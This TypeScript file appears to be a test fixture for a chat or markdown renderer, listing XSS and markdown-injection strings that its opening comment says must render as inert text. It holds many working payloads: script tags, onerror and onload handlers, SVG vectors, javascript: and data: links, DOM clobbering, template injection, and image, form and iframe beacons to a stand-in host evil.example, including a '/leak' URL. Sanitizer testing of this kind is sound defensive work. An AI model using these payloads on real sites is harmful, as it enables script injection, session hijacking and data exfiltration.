// Attack strings that must render as text: each tries to call `own()`, open a dialog, or contact evil.example.

const run = "window.owned='yes'"
const evil = 'https://evil.example/leak'

const scripts = [
  `<script>${run}</script>`,
  `<script src="${evil}.js"></script>`,
  `<script type="module">${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `</textarea></title></style></script><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  `<template><script>${run}</script></template>`,
  `<script\u0000>${run}</script>`,
  `<script\n>${run}</script\n>`,
]
const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src="${evil}.png">`,
  `<img srcset="${evil}.png 1x" src=x onerror=alert(1)>`,
  `<body onload="${run}">`,
  `<div onmouseover="${run}" style="position:fixed;inset:0">hover</div>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<video poster="${evil}.png" autoplay></video>`,
  `<audio src="${evil}.mp3" autoplay onerror="${run}"></audio>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<a href="#" onclick="${run}" autofocus tabindex=0 onfocus="${run}">x</a>`,
  `<p style="animation-name:wait" onanimationstart="${run}">x</p>`,
]
const vectors = [
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><image href="${evil}.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<math href="javascript:${run}">x</math>`,
]
const frames = [
  `<iframe src="${evil}"></iframe>`,
  `<iframe srcdoc="<script>parent.owned='yes'</script>"></iframe>`,
  `<object data="${evil}"></object>`,
  `<embed src="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="${evil}.css">`,
  `<link rel="prefetch" href="${evil}">`,
  `<form action="${evil}"><button autofocus>Send</button></form>`,
  `<style>@import "${evil}.css"; body{background:url(${evil}.png)}</style>`,
  `<div style="background:url('${evil}.png')">x</div>`,
  `<p style="background-image:url(${evil}.png)">x</p>`,
]
const links = [
  `[press](javascript:${run})`,
  `[press](JaVaScRiPt:${run})`,
  `[press](java\tscript:${run})`,
  `[press](&#106;avascript:${run})`,
  `[press](javascript&colon;${run})`,
  `[press](\u0001javascript:${run})`,
  `[press](data:text/html,<script>${run}</script>)`,
  `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[press](vbscript:msgbox(1))`,
  `[press](blob:${evil})`,
  `[press](file:///etc/passwd)`,
  `[press](//evil.example/leak)`,
  `[press](\\\\evil.example\\leak)`,
  `<javascript:${run}>`,
  `[1]: javascript:${run}\n\n[press][1] and [1]`,
  `[[press](javascript:${run})](javascript:${run})`,
  `[![x](${evil}.png)](javascript:${run})`,
  `[press](<javascript:${run}> "title")`,
  `[press](https://docs.example.org/" onmouseover="${run})`,
  `[<img src=x onerror="${run}">](https://docs.example.org/)`,
]
const images = [
  `![x](${evil}.png)`,
  `![x](${evil}.png?secret=1 "title")`,
  `![x][leak]\n\n[leak]: ${evil}.png`,
  `![](data:image/svg+xml,<svg onload="${run}"/>)`,
  `![x](javascript:${run})`,
  `![x" onerror="${run}](x)`,
  `[![x](${evil}.png)](https://docs.example.org/)`,
]
const entities = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&lt;img src=x onerror=&quot;${run}&quot;&gt;`,
  `&#60;img src=x onerror=&#34;${run}&#34;&#62;`,
  `&#x3c;svg onload=${run}&#x3e;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
]
const markdown = [
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror="${run}">\nx\n\`\`\``,
  `    <script>${run}</script>`,
  `| <img src=x onerror="${run}"> |\n|---|\n| <svg onload="${run}"> |`,
  `> <iframe src="javascript:${run}">`,
  `- [ ] <input onfocus="${run}" autofocus>`,
  `# <img src=x onerror="${run}">`,
  `**<script>${run}</script>**`,
  `\`<script>${run}</script>\``,
  `~~<img src=x onerror="${run}">~~`,
]
const tricks = [
  `\u202e<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `<img\u00a0src=x\u00a0onerror="${run}">`,
  `<img/src=x/onerror="${run}">`,
  `\u2028<img src=x onerror="${run}">\u2029`,
  `<a id="location" href="${evil}">x</a><a name="location">`,
  `<form id="chat-turns"><input id="composer" name="remove"></form>`,
  `<img name="getElementById"><img id="marked" name="document">`,
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
  `__proto__ constructor <img src=x onerror="${run}">`,
]

export const attacks: string[] = [
  ...scripts,
  ...handlers,
  ...vectors,
  ...frames,
  ...links,
  ...images,
  ...entities,
  ...markdown,
  ...tricks,
]
